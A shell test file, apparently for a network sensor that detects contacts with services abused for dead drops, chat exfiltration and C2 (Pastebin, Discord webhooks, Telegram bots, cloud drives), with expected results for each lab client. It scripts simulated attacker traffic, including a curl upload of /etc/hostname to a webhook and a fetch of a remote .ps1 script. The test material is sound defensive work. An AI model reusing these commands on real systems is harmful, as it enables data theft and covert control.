# Names that only look like listed ones, and the mix of an office.

case:lookalikes() {
    dns_up; web_up; capture "$DIR/input.pcap"
    local name
    for name in notdropbox.com evil-box.com pastebin.com.cdn.example www.xbox.com microsoft.com t.co.uk notion.social \
        settings-win.data.microsoft.com tenant.config.example; do
        client 1 curl -4 -s --cacert "$TMP/ca/ca.pem" "https://$name/"
    done
    # dig sends the case as typed, the trailing dot does not exist on the wire.
    client 2 dig +tries=1 +time=2 PASTEBIN.COM.
    s_client 2 -connect 10.77.0.104:443 -servername PASTEBIN.COM
    # The trailing dot in the server name is against RFC 6066, section 3, and sent all the same.
    s_client 2 -connect 10.77.0.104:443 -servername PASTEBIN.COM.
    client 3 curl -4 -s --cacert "$TMP/ca/ca.pem" https://pastebin.com/
    client 3 curl -4 -s --cacert "$TMP/ca/ca.pem" https://x.pastebin.com/
    client 4 curl -4 -s --cacert "$TMP/ca/ca.pem" https://PasteBin.com./raw/x
    captured
    readme <<WORDS
Names that hold a listed name as text, or look like one, asked for by 10.77.0.11 with curl; and listed names in unusual spelling by the
others: dig ({version:dig -v}) and openssl s_client -servername with PASTEBIN.COM and PASTEBIN.COM., curl with PasteBin.com. $SYNTHETIC_NONE

A sensor reports no contact for 10.77.0.11, and contacts with pastebin.com for 10.77.0.12, 10.77.0.13 and 10.77.0.14. The name is
reported in lower case and without the dot, whatever was sent. x.pastebin.com is a contact too: it is below a listed name.
WORDS
}

case:first-look() {
    dns_up; web_up
    page https://www.wikipedia.org/x.png https://www.xbox.com/x.png
    capture "$DIR/input.pcap"
    # 10.77.0.11: a person with a browser.
    chromium_get 1 https://portal.office.example/page.html
    # 10.77.0.12: a script that reads a dead drop and sends to a chat.
    client 2 curl -4 -s --cacert "$TMP/ca/ca.pem" https://pastebin.com/raw/x
    client 2 curl -4 -s --cacert "$TMP/ca/ca.pem" https://raw.githubusercontent.com/a/b/main/c.ps1
    client 2 curl -4 -s --cacert "$TMP/ca/ca.pem" -F f=@/etc/hostname https://discord.com/api/webhooks/1/x
    client 2 curl -4 -s --cacert "$TMP/ca/ca.pem" https://www.xbox.com/
    # 10.77.0.13: an implant in Python that polls a bot and reads a drive, over TLS 1.2 and IPv6 too.
    client 3 env SSL_CERT_FILE="$TMP/ca/ca.pem" /usr/bin/python3 "$LAB/client.py" \
        https://api.telegram.org/bot1/getUpdates https://api.telegram.org/bot1/getUpdates https://api.telegram.org/bot1/sendMessage \
        6:https://www.googleapis.com/drive/v3/files https://www.python.org/
    # 10.77.0.14: living off the land: Dropbox's API, Graph, and a OneDrive drive letter; then its look-alikes.
    client 4 wget -4 -q -O /dev/null --ca-certificate="$TMP/ca/ca.pem" --post-data={} https://api.dropboxapi.com/2/files/list_folder
    client 4 wget -4 -q -O /dev/null --ca-certificate="$TMP/ca/ca.pem" https://content.dropboxapi.com/2/files/download
    client 4 curl -4 -s --cacert "$TMP/ca/ca.pem" https://graph.microsoft.com/v1.0/me/drive/root/children
    s_client 4 -4 -connect d.docs.live.net:443 -servername d.docs.live.net -tls1_2
    client 4 curl -4 -s --cacert "$TMP/ca/ca.pem" https://notdropbox.com/
    client 4 curl -4 -s --cacert "$TMP/ca/ca.pem" https://pastebin.com.cdn.example/
    client 4 dig +tries=1 +time=2 evil-box.com
    # 10.77.0.11 again, in Firefox.
    page https://www.debian.org/x.png
    firefox_get 1 https://intranet.office.example/page.html
    captured
    readme <<WORDS
A few seconds of an office: four clients, of which one only browses. Chromium and Firefox, curl, wget, Python and openssl s_client,
over IPv4 and IPv6. $SYNTHETIC_NONE

| client | who it stands for | contacts a sensor reports |
|---|---|---|
| 10.77.0.11, fd77::11 | a person with two browsers | none |
| 10.77.0.12 | a script that reads a dead drop and sends to a chat | pastebin.com, raw.githubusercontent.com, discord.com |
| 10.77.0.13, fd77::13 | an implant in Python, polling | api.telegram.org (three times), www.googleapis.com |
| 10.77.0.14 | living off the land | api.dropboxapi.com, content.dropboxapi.com, graph.microsoft.com, d.docs.live.net |

None for the ordinary names and the look-alikes: www.xbox.com, notdropbox.com, evil-box.com, pastebin.com.cdn.example.
WORDS
}
